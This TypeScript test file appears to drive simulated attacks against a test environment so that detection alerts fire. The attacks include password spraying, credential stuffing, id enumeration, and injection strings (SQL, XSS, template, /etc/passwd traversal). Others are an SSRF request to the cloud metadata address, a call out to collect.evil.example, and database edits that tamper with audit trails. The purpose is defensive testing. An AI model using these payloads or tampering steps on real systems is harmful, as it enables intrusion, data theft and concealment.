import { contract } from '@girasol/contract'
import { idBytes, newId } from '../../../apps/api/src/database/ids.ts'
import type { Person } from '../../../test/client.ts'
import { placeOrder } from '../../../test/ordering.ts'
import { anyEmail, password } from '../../../test/people.ts'
import type { World } from '../../../test/world.ts'

/** An attack by a script, and the kind of alert that must come of it. */
export type Attack = { name: string; alert: string; run: (world: World) => Promise<void> }

const wrong = 'not the password 77'

function tryIn(from: { sends: Person['sends'] }, email: string, secret = wrong) {
  const body = { email, password: secret, device: 'browser' }
  return from.sends({ method: 'POST', path: '/sessions', body })
}

/** One source, a dozen accounts, one guess each. */
async function spray(world: World): Promise<void> {
  const source = world.visitor()
  for (let count = 0; count < 12; count++) await tryIn(source, anyEmail())
}

/** A rented network: every try from another place. */
async function stuffing(world: World): Promise<void> {
  for (let count = 0; count < 34; count++) await tryIn(world.visitor(), anyEmail())
}

/** Guesses until the accounts are locked. */
async function lockBurst(world: World): Promise<void> {
  for (let account = 0; account < 5; account++) {
    const email = anyEmail()
    const source = world.visitor()
    for (let count = 0; count < 11; count++) await tryIn(source, email)
  }
}

/** Order after order, by ids that are somebody else's or nobody's. */
async function walk(world: World): Promise<void> {
  const eve = await world.customer()
  const other = await placeOrder(await world.customer())
  const ids = [other.id, ...Array.from({ length: 17 }, () => newId())]
  for (const id of ids) await eve.sends({ method: 'GET', path: `/orders/${id}` })
}

/** A scanner's favourites against a signed-in route. */
async function inject(world: World): Promise<void> {
  const eve = await world.customer()
  const texts = ["' OR 1=1 --", '"; DROP TABLE accounts', '<script>', '${7*7}', '../../etc/passwd']
  for (let count = 0; count < 110; count++) {
    const text = encodeURIComponent(texts[count % texts.length]!)
    await eve.sends({ method: 'GET', path: `/orders/${text}` })
  }
}

/** Doors that are not there. */
async function scan(world: World): Promise<void> {
  const scanner = world.visitor()
  for (let count = 0; count < 1010; count++) {
    await scanner.sends({ method: 'GET', path: `/admin/backup-${count}.sql` })
  }
}

/** A name that was listed leads inward. */
async function turnName(world: World): Promise<void> {
  const { egress } = world.worker.app
  await egress.post('alerts', 'https://169.254.169.254/latest/meta-data/', message).catch(ignore)
}

/** A dependency that calls home. */
async function callHome(world: World): Promise<void> {
  await world.worker.app.egress
    .post('alerts', 'https://collect.evil.example/', message)
    .catch(ignore)
}
const message = { headers: {}, body: '' }
const ignore = () => undefined

/** A colleague who looks up one phone after the other, with a case for each. */
async function reveal(world: World): Promise<void> {
  const support = await world.staff('support')
  for (let count = 0; count < 9; count++) {
    const ana = await world.customer()
    const order = await placeOrder(ana)
    const params = { customerId: ana.account.id }
    const about = { reason: 'order', orderId: order.id, note: 'Calls about the date' } as const
    const { id: caseId } = await support.does(contract.cases.openCase, { params, body: about })
    const asked = { field: 'phone', orderId: order.id, reason: 'arrangeVisit', caseId } as const
    await support.does(contract.customers.revealField, {
      params,
      body: { ...asked, note: 'To agree on a day' },
    })
  }
}

/** One account, five places within minutes. */
async function travel(world: World): Promise<void> {
  const ana = await world.customer()
  for (let count = 0; count < 5; count++) await tryIn(world.visitor(), ana.email, password)
}

/** Somebody of security asks for another role for themselves. */
async function promote(world: World): Promise<void> {
  const sam = await world.staff('security')
  const { method, path } = contract.staffMembers.changeStaffRole
  const body = { role: 'engineer', reason: 'newDuties', text: 'I need this for tonight' }
  await sam.sends({ method, path: path.replace(/:\w+/, sam.account.id), body })
}

/** Somebody with the database changes a role. */
async function promoteBehind(world: World): Promise<void> {
  const eva = await world.staff('support')
  const id = idBytes(eva.account.id)
  await world.admin.query("UPDATE accounts SET role = 'security' WHERE id = ?", [id])
}

/** Somebody with the database rewrites what was sealed. */
async function rewrite(world: World): Promise<void> {
  await sealed(world)
  await world.admin.query(
    "UPDATE audit_events SET outcome = 'failed' WHERE action = 'account.open' ORDER BY id LIMIT 1",
  )
}

/** Until an entry has been sealed. */
async function sealed(world: World): Promise<void> {
  for (let look = 0; look < 100; look++) {
    const [rows] = await world.admin.query<never[]>('SELECT 1 FROM trail_leaves LIMIT 1')
    if (rows.length > 0) return
    await new Promise((resolve) => setTimeout(resolve, 100))
  }
}

/** Somebody moves one person's sealed name to another. */
async function moveSealed(world: World): Promise<void> {
  const [ana, eve] = [await world.customer(), await world.customer()]
  await world.admin.query(
    'UPDATE accounts a JOIN accounts b ON b.id = ? SET a.name_sealed = b.name_sealed WHERE a.id = ?',
    [idBytes(ana.account.id), idBytes(eve.account.id)],
  )
  await eve.sends({ method: 'GET', path: contract.accounts.readMe.path })
}

/** A program whose trail was switched off: its session has no entry. */
async function unlogged(world: World): Promise<void> {
  const ana = await world.customer()
  await world.admin.query(
    `DELETE FROM audit_events WHERE action = 'session.start' AND resource_id =
       (SELECT LOWER(CONCAT_WS('-', SUBSTR(HEX(id), 1, 8), SUBSTR(HEX(id), 9, 4), SUBSTR(HEX(id), 13, 4), SUBSTR(HEX(id), 17, 4), SUBSTR(HEX(id), 21)))
        FROM sessions WHERE account_id = ? LIMIT 1)`,
    [idBytes(ana.account.id)],
  )
}

export const attacks: readonly Attack[] = [
  { name: 'passwords sprayed from one source', alert: 'passwordSpray', run: spray },
  { name: 'stolen passwords from many sources', alert: 'credentialStuffing', run: stuffing },
  { name: 'guesses until accounts lock', alert: 'lockoutBurst', run: lockBurst },
  { name: 'orders of others by their ids', alert: 'objectWalking', run: walk },
  { name: 'injections', alert: 'injectionScan', run: inject },
  { name: 'a scanner', alert: 'probing', run: scan },
  { name: 'a request steered inward', alert: 'egressBlocked', run: turnName },
  { name: 'a call home', alert: 'egressBlocked', run: callHome },
  { name: 'a colleague who reveals and reveals', alert: 'massReveal', run: reveal },
  { name: 'one account in many places', alert: 'manyNetworks', run: travel },
  { name: 'a role for oneself', alert: 'roleSelfGrant', run: promote },
  { name: 'a role given in the database', alert: 'changedOutside', run: promoteBehind },
  { name: 'a sealed entry rewritten', alert: 'trailTampered', run: rewrite },
  { name: 'a sealed value moved', alert: 'keyDenied', run: moveSealed },
  { name: 'a trail that is switched off', alert: 'trailGap', run: unlogged },
]
